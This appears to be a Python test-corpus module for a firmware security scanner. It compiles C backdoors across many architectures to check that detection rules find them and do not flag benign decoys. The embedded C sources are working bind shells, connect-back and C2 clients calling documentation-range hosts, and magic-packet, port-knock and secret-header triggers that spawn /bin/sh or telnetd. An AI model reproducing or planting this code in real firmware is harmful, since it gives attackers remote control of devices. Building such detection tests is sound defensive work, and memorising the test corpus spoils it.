"""Compiled backdoors: bind shells, connect-back shells, magic-packet triggers and secret HTTP
headers written in C in several styles, compiled at test time by the real (cross) compilers
Debian ships (x86-64 gcc and musl-gcc, mipsel, mips, mips64, mips64el, armel, aarch64, i686) at
-O0, -Os and -O2, dynamic and static, always stripped, and started at boot by an init script of
the stock root.
Each member and each decoy is also built once packed with the real `upx` (as IoT malware ships):
what the scan must find in it is what it finds in the plain program, read in the program
`upx -d` gives back.
Static programs import nothing: the rules name their libc calls by the system calls of the
wrappers (firmproof.device.binary.syscalls).
Beside them, decoys of the same shape: a UDP echo server, a remote-management daemon whose
`REBOOT` command runs a fixed harmless action, a server that compares input with a value it
reads from its config file, a program that runs /bin/sh on a fixed local script, a client that
connects out and sends a log line (and a fixed command's output), an NTP-like UDP client.

Where a finding must point: a bind shell started at boot is FP-SVC-008 (service.remote-shell)
at the init script that starts it, a connect-back shell or C2 client FP-SVC-009 there too; a
trigger (a magic packet, a secret header) is FP-TRIG (service.hidden-trigger) at the binary.
The remote-management decoy is reported by FP-TRIG-001 at low severity, never critical: a
documented command with a fixed harmless action is no backdoor (issue 12), but a network packet
that reboots the device is still worth a line in the report (tests/binary/test_rules.py checks
the severities).

Programs are built lazily: `variants()` names them (collection stays fast) and the corpus
compiles one when it copies it into the image (`os.fspath`), once per source, compiler and
flags, cached under build/variants; a missing cross compiler skips the variant."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import cast

from firmproof.host.tools import missing_message, which
from tests.variants.corpus import Variant

FAMILY = "compiled-backdoors"
REPO = Path(__file__).resolve().parents[3]
CACHE = REPO / "build" / "variants"
SCRIPT = "/etc/init.d/S70{name}"

# toolchain -> (compiler, strip)
TOOLCHAINS: dict[str, tuple[str, str]] = {
    "x86-64": ("gcc", "strip"),
    "musl": ("musl-gcc", "strip"),
    "mipsel": ("mipsel-linux-gnu-gcc", "mipsel-linux-gnu-strip"),
    "mips": ("mips-linux-gnu-gcc", "mips-linux-gnu-strip"),
    "armel": ("arm-linux-gnueabi-gcc", "arm-linux-gnueabi-strip"),
    "aarch64": ("aarch64-linux-gnu-gcc", "aarch64-linux-gnu-strip"),
    "i686": ("i686-linux-gnu-gcc", "i686-linux-gnu-strip"),
    "mips64": ("mips64-linux-gnuabi64-gcc", "mips64-linux-gnuabi64-strip"),
    "mips64el": ("mips64el-linux-gnuabi64-gcc", "mips64el-linux-gnuabi64-strip"),
}
OPTS = ("-O0", "-Os", "-O2")

HEAD = """#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
"""

LISTEN = """static int listener(int type, int port)
{
    struct sockaddr_in a;
    int one = 1, s = socket(AF_INET, type, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0)
        exit(1);
    if (type == SOCK_STREAM)
        listen(s, 5);
    return s;
}
"""

# name -> (C source, what the program does). True members first, then the decoys.
SOURCES: dict[str, str] = {
    # a bind shell: accept, the socket on 0/1/2, exec a shell
    "bind-execl": HEAD + LISTEN + """
int main(void)
{
    int s = listener(SOCK_STREAM, 31337);
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            continue;
        dup2(c, 0); dup2(c, 1); dup2(c, 2);
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        close(c);
    }
}
""",
    # the same with fork per client and execve with an argv array
    "bind-fork-execve": HEAD + LISTEN + """
static void serve(int c)
{
    char *argv[] = {"/bin/sh", NULL};
    char *envp[] = {"PATH=/bin:/sbin:/usr/bin:/usr/sbin", "HOME=/", NULL};
    int fd;
    for (fd = 0; fd < 3; fd++)
        dup2(c, fd);
    execve(argv[0], argv, envp);
    _exit(127);
}

int main(void)
{
    int s = listener(SOCK_STREAM, 4444);
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            continue;
        if (fork() == 0) {
            close(s);
            serve(c);
        }
        close(c);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
""",
    # the same with system("/bin/sh") after the redirection
    "bind-system": HEAD + LISTEN + """
int main(void)
{
    int s = listener(SOCK_STREAM, 5555);
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        int c = accept(s, (struct sockaddr *)&peer, &len);
        if (c < 0)
            continue;
        if (fork() == 0) {
            dup2(c, 0); dup2(c, 1); dup2(c, 2);
            system("/bin/sh -i");
            _exit(0);
        }
        close(c);
    }
}
""",
    # a connect-back shell: connect to a hard-coded host, the socket on 0/1/2, exec a shell
    "connect-back": HEAD + """
int main(void)
{
    struct sockaddr_in a;
    for (;;) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons(443);
        a.sin_addr.s_addr = inet_addr("203.0.113.66");
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            if (fork() == 0) {
                dup2(s, 0); dup2(s, 1); dup2(s, 2);
                execl("/bin/sh", "sh", (char *)NULL);
                _exit(1);
            }
            wait(NULL);
        }
        close(s);
        sleep(60);
    }
}
""",
    # a C2 client: connect to a hard-coded host, run what it sends with popen(), send the output back
    "connect-popen": HEAD + """
int main(void)
{
    struct sockaddr_in a;
    char cmd[256], out[512];
    for (;;) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons(8443);
        a.sin_addr.s_addr = inet_addr("198.51.100.7");
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            ssize_t n;
            while ((n = recv(s, cmd, sizeof cmd - 1, 0)) > 0) {
                FILE *p;
                cmd[n] = 0;
                p = popen(cmd, "r");
                if (p == NULL)
                    continue;
                while (fgets(out, sizeof out, p))
                    send(s, out, strlen(out), 0);
                pclose(p);
            }
        }
        close(s);
        sleep(30);
    }
}
""",
    # a magic packet: recvfrom, memcmp with a literal, system() starts telnetd with a shell
    "magic-memcmp-system": HEAD + LISTEN + """
int main(void)
{
    char buf[256];
    int s = listener(SOCK_DGRAM, 9034);
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&peer, &len);
        if (n < 16)
            continue;
        if (memcmp(buf, "HELODBG-OPEN-SESAME", 16) == 0)
            system("/usr/sbin/telnetd -l /bin/sh -p 2323 &");
    }
}
""",
    # a knock on a TCP port: read, strncmp in a helper, fork + execl of telnetd
    "knock-read-fork-exec": HEAD + LISTEN + """
static int knocked(const char *b)
{
    return strncmp(b, "xyzzy_factory_mode", 18) == 0;
}

int main(void)
{
    char buf[128];
    int s = listener(SOCK_STREAM, 7547);
    for (;;) {
        int c = accept(s, NULL, NULL);
        ssize_t n = read(c, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            if (knocked(buf) && fork() == 0) {
                execl("/usr/sbin/telnetd", "telnetd", "-l", "/bin/sh", "-p", "23", (char *)NULL);
                _exit(1);
            }
        }
        close(c);
    }
}
""",
    # a magic word compared inline (no call: the compiler compares words), then a shell
    "magic-inline-word": HEAD + LISTEN + """
int main(void)
{
    unsigned char buf[64];
    int s = listener(SOCK_DGRAM, 53413);
    for (;;) {
        ssize_t n = recv(s, buf, sizeof buf, 0);
        if (n >= 8 && buf[0] == 'k' && buf[1] == 'N' && buf[2] == '0' && buf[3] == 'c'
                && buf[4] == 'k' && buf[5] == 'K' && buf[6] == 'n' && buf[7] == '0') {
            if (fork() == 0) {
                execl("/bin/sh", "sh", "-c", (char *)buf + 8, (char *)NULL);
                _exit(1);
            }
        }
    }
}
""",
    # a secret User-Agent or Authorization header gives the caller a shell
    "http-header-shell": HEAD + LISTEN + """
static const char *header(char *req, const char *name)
{
    char *line = strstr(req, name);
    return line ? line + strlen(name) : NULL;
}

int main(void)
{
    char req[2048];
    int s = listener(SOCK_STREAM, 8081);
    for (;;) {
        int c = accept(s, NULL, NULL);
        ssize_t n = recv(c, req, sizeof req - 1, 0);
        if (n > 0) {
            const char *ua, *auth;
            req[n] = 0;
            ua = header(req, "User-Agent: ");
            auth = header(req, "Authorization: Basic ");
            if ((ua && strncmp(ua, "Mozilla/5.0 (SupportAgent-7f3a)", 31) == 0)
                    || (auth && strncmp(auth, "c3VwcG9ydDpCa0RvMHIh", 20) == 0)) {
                dup2(c, 0); dup2(c, 1); dup2(c, 2);
                execl("/bin/sh", "sh", "-i", (char *)NULL);
            }
            send(c, "HTTP/1.0 401 Unauthorized\\r\\n\\r\\n", 29, 0);
        }
        close(c);
    }
}
""",
    # decoys ------------------------------------------------------------------------------
    "udp-echo": HEAD + LISTEN + """
int main(void)
{
    char buf[512];
    int s = listener(SOCK_DGRAM, 7);
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&peer, &len);
        if (n > 0 && strncmp(buf, "QUIT", 4) != 0)
            sendto(s, buf, n, 0, (struct sockaddr *)&peer, len);
    }
}
""",
    # a documented remote-management command with a fixed harmless action
    "mgmt-reboot": HEAD + LISTEN + """
int main(void)
{
    char buf[64];
    int s = listener(SOCK_DGRAM, 6060);
    for (;;) {
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&peer, &len);
        if (n <= 0)
            continue;
        buf[n] = 0;
        if (strcmp(buf, "REBOOT") == 0)
            system("reboot");
        else if (strcmp(buf, "STATUS") == 0)
            sendto(s, "OK\\n", 3, 0, (struct sockaddr *)&peer, len);
    }
}
""",
    # input compared with a value read from a config file, not with a literal
    "config-secret": HEAD + LISTEN + """
int main(void)
{
    char want[64] = "", buf[64];
    FILE *f = fopen("/etc/config/mgmt.key", "r");
    int s = listener(SOCK_DGRAM, 6061);
    if (f == NULL || fgets(want, sizeof want, f) == NULL)
        return 1;
    fclose(f);
    want[strcspn(want, "\\n")] = 0;
    for (;;) {
        ssize_t n = recv(s, buf, sizeof buf - 1, 0);
        if (n <= 0)
            continue;
        buf[n] = 0;
        if (strcmp(buf, want) == 0)
            system("/sbin/reboot");
    }
}
""",
    # /bin/sh on a fixed local script, no network input at all
    "local-script": HEAD + """
int main(int argc, char **argv)
{
    char line[128];
    FILE *f = fopen("/etc/hostname", "r");
    if (f && fgets(line, sizeof line, f) && strncmp(line, "router", 6) == 0)
        execl("/bin/sh", "sh", "/etc/rc.local", (char *)NULL);
    if (argc > 1 && strcmp(argv[1], "--update") == 0)
        return system("/bin/sh /etc/update.sh");
    return 0;
}
""",
    # connects out and sends a log line and the output of a fixed command: no shell on the socket
    "connect-log": HEAD + """
int main(void)
{
    struct sockaddr_in a;
    char line[128] = "boot ok\\n";
    int s = socket(AF_INET, SOCK_STREAM, 0);
    FILE *p;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(514);
    a.sin_addr.s_addr = inet_addr("192.0.2.10");
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
        return 1;
    send(s, line, strlen(line), 0);
    p = popen("/usr/bin/uptime", "r");
    if (p && fgets(line, sizeof line, p))
        send(s, line, strlen(line), 0);
    if (p)
        pclose(p);
    close(s);
    return 0;
}
""",
    # an NTP-like UDP client: connect, send a request, read the answer, set nothing up
    "ntp-client": HEAD + """
int main(void)
{
    unsigned char pkt[48] = {0x1b};
    struct sockaddr_in a;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(123);
    a.sin_addr.s_addr = inet_addr("192.0.2.123");
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
        return 1;
    send(s, pkt, sizeof pkt, 0);
    if (recv(s, pkt, sizeof pkt, 0) == sizeof pkt && pkt[40] == 0)
        execl("/bin/sh", "sh", "/etc/ntp-failed.sh", (char *)NULL);
    close(s);
    return 0;
}
""",
}

CATEGORY = {
    "bind-execl": "service.remote-shell",
    "bind-fork-execve": "service.remote-shell",
    "bind-system": "service.remote-shell",
    "connect-back": "service.remote-shell",
    "magic-memcmp-system": "service.hidden-trigger",
    "knock-read-fork-exec": "service.hidden-trigger",
    "magic-inline-word": "service.hidden-trigger",
    "http-header-shell": "service.hidden-trigger",
    "connect-popen": "service.remote-shell",        # last: the others keep their rotation
}
DECOYS = ("udp-echo", "mgmt-reboot", "config-secret", "local-script", "connect-log", "ntp-client")

# (toolchain, optimisation, static): every toolchain and every level for every member
PLAN: tuple[tuple[str, str, bool], ...] = (
    ("x86-64", "-O0", False), ("mipsel", "-Os", False), ("mips", "-O2", False),
    ("armel", "-O0", True), ("aarch64", "-Os", False), ("i686", "-O2", True),
    ("mips", "-Os", True),      # last: the rows before keep their variants
    ("aarch64", "-O2", True), ("musl", "-O2", True),        # posix_spawn by tail calls; musl's relays
    ("mips64", "-O0", False), ("mips64", "-Os", True),     # n64
    ("mips64el", "-O2", False), ("mips64el", "-O0", True),     # n64, little-endian
)
DECOY_PLAN: tuple[tuple[str, str, bool], ...] = (
    ("x86-64", "-O2", False), ("mipsel", "-O0", False), ("mips", "-Os", True),
    ("armel", "-O2", False), ("aarch64", "-O2", True), ("i686", "-Os", True),
    # appended: the rows before keep their variants
    ("musl", "-O2", True), ("mips64", "-Os", False), ("mips64", "-O2", True),
    ("mips64el", "-O0", True), ("mips64el", "-O2", False),
)

# (toolchain, optimisation, static) of the packed variants, one per member in turn: upx packs
# none of the small dynamic MIPS and ARM programs (NotCompressibleException), so those are static
PACKED_PLAN: tuple[tuple[str, str, bool], ...] = (
    ("x86-64", "-O2", False), ("mipsel", "-Os", True), ("armel", "-O0", True),
    ("aarch64", "-O2", False), ("i686", "-Os", True), ("musl", "-O0", True),
    ("mips", "-O2", True),      # big-endian: unblob leaves it packed, the elf entry's upx -d does not
)


class Program(os.PathLike[str]):
    """A C program compiled on first use (when the corpus copies it), cached on disk by the
    hash of its source, compiler and flags; with `packed`, packed with upx after stripping."""

    def __init__(self, source: str, toolchain: str, opt: str, static: bool, packed: bool = False) -> None:
        self.source, self.toolchain, self.opt, self.static = source, toolchain, opt, static
        self.packed = packed

    def __repr__(self) -> str:
        return (f"Program({self.toolchain}{self.opt}{' static' if self.static else ''}"
                f"{' upx' if self.packed else ''})")

    def flags(self) -> list[str]:
        return [self.opt, *(["-static"] if self.static else [])]

    def __fspath__(self) -> str:
        cc, strip = TOOLCHAINS[self.toolchain]
        missing = [t for t in (cc, strip, *(["upx"] if self.packed else [])) if which(t) is None]
        if missing:
            message = missing_message(missing)
            if os.environ.get("PYTEST_CURRENT_TEST"):
                import pytest
                pytest.skip(message)
            raise FileNotFoundError(message)
        packer = ["upx"] if self.packed else []
        key = hashlib.sha256("\0".join([self.source, cc, *self.flags(), *packer]).encode()).hexdigest()[:20]
        out = CACHE / key / "prog"
        if out.is_file():
            return str(out)
        out.parent.mkdir(parents=True, exist_ok=True)
        work = out.parent / f"tmp.{os.getpid()}"
        work.mkdir(exist_ok=True)
        (work / "prog.c").write_text(self.source)
        subprocess.run([cc, *self.flags(), "-o", str(work / "prog"), str(work / "prog.c")],
                       check=True, capture_output=True)
        subprocess.run([strip, str(work / "prog")], check=True, capture_output=True)
        if self.packed:
            subprocess.run(["upx", "-q", str(work / "prog")], check=True, capture_output=True)
        os.replace(work / "prog", out)      # atomic: two workers may build the same program
        shutil.rmtree(work, ignore_errors=True)
        return str(out)


def _variant(member: str, toolchain: str, opt: str, static: bool, packed: bool = False) -> Variant:
    name = f"{member}.{toolchain}{opt}{'.static' if static else ''}{'.upx' if packed else ''}"
    daemon = f"/usr/sbin/{member}"
    script = SCRIPT.format(name=member)
    files = {script: f"#!/bin/sh\ncase \"$1\" in\n  start) {daemon} & ;;\nesac\n"}
    if member == "config-secret":
        files["/etc/config/mgmt.key"] = "s3cr3t-from-config\n"
    program = cast(Path, Program(SOURCES[member], toolchain, opt, static, packed))
    if member in DECOYS:
        # the REBOOT daemon is reported, at low severity (a fixed harmless action from the
        # network is worth a look, not an alarm): only a remote shell would be wrong there
        forbid = ("service.remote-shell",) if member == "mgmt-reboot" else \
            ("service.hidden-trigger", "service.remote-shell")
        return Variant(FAMILY, name + "-decoy", files, None, forbid=forbid,
                       programs={daemon: program})
    category = CATEGORY[member]
    where = script if category == "service.remote-shell" else daemon
    return Variant(FAMILY, name, files, (category, where), programs={daemon: program})


def variants() -> Iterator[Variant]:
    members = list(CATEGORY)
    for i, member in enumerate(members):
        # rotate the plan so that each member meets the toolchains at other levels
        shift = i % 3
        for toolchain, opt, static in PLAN:
            opt = OPTS[(OPTS.index(opt) + shift) % 3]
            yield _variant(member, toolchain, opt, static)
        # and static: musl for half of them, glibc on x86-64 for the others
        yield _variant(member, "musl" if i % 2 == 0 else "x86-64", OPTS[i % 3], True)
    for member in DECOYS:
        for toolchain, opt, static in DECOY_PLAN:
            yield _variant(member, toolchain, opt, static)
    for i, member in enumerate([*CATEGORY, *DECOYS]):
        yield _variant(member, *PACKED_PLAN[i % len(PACKED_PLAN)], packed=True)
